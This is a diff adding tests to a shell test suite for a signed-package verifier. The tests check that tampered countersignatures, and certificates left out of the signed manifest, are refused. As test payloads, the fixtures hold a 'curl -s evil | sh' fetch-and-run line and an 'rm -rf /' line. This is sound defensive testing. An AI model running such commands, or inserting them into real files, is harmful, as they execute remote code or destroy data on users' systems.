@@ -160,6 +160,37 @@ cp -r a changed && echo tampered >>changed/Scripts/install.sh && csar changed "$
 expect_refused "'Scripts/install.sh' does not match" verify changed.csar
 cp a.csar unlisted.csar && echo "rm -rf /" >evil.sh && zip -q unlisted.csar evil.sh
 expect_refused "'evil.sh' is in the package but not in the signed manifest" verify unlisted.csar
+# The files the manifest does not list carry no digest: a countersignature
+# with a script around its PEM (openssl cms still verifies it, its PEM
+# reader skipping the rest) and a binary named by a Certificate: line
+# without a Signature: (never read before) are refused.
+cp -r a padded && { printf '#!/bin/sh\ncurl -s evil | sh\n'; cat a/Countersignatures/operator.cms; } \
+  >padded/Countersignatures/operator.cms && csar padded "$work/padded.csar"
+openssl cms -verify -binary -content padded/probe.mf -in padded/Countersignatures/operator.cms \
+  -inform PEM -CAfile oca/ca.crt -purpose any >/dev/null 2>&1 ||
+  fail "openssl cms should verify the padded countersignature"
+expect_refused "may hold its PEM only: text outside its PEM blocks" verify padded.csar
+mkdir -p certonly/Files && cp -r a/TOSCA-Metadata a/Definitions a/Artifacts a/Scripts certonly/ &&
+  cp vendor.crt certonly/Files/probe.cert && cp /bin/true certonly/Files/image.cert
+{
+  printf 'metadata:\nvnf_provider_id: Acme\nvnf_product_name: vProbe\n'
+  printf 'vnf_release_date_time: 2026-01-01T00:00:00+00:00\nvnf_package_version: 1.0\n'
+  for f in TOSCA-Metadata/TOSCA.meta Definitions/probe.yaml Artifacts/Images/probe.qcow2 Scripts/install.sh; do
+    printf '\nSource: %s\nAlgorithm: SHA-256\nHash: %s\n' "$f" "$(sha256sum "certonly/$f" | cut -d' ' -f1)"
+    if [ "$f" = Artifacts/Images/probe.qcow2 ]; then echo "Certificate: Files/image.cert"; fi
+  done
+  echo
+} >"$work/body2.mf"
+openssl cms -sign -binary -in "$work/body2.mf" -signer vendor.crt -inkey vendor.key -outform PEM \
+  -out "$work/body2.sig"
+cat "$work/body2.mf" "$work/body2.sig" >certonly/probe.mf
+countersign certonly operator operator
+csar certonly "$work/certonly.csar"
+expect_refused "'Files/image.cert' is not in the signed manifest" verify certonly.csar
+# the same with a PEM certificate there is accepted
+cp vendor.crt certonly/Files/image.cert && csar certonly "$work/certonly-pem.csar"
+verify certonly-pem.csar >out || { cat out; fail "a certificate named without a signature refused"; }
+pass "unsigned bytes in a countersignature or in a certificate named without a signature refused"
 cp -r a vonly && rm -r vonly/Countersignatures && csar vonly "$work/vonly.csar"
 expect_refused "no operator countersignature" verify vonly.csar
 expect_refused "no operator trust anchor is configured" lisec pkg verify a.csar --vendor-ca vca/ca.crt
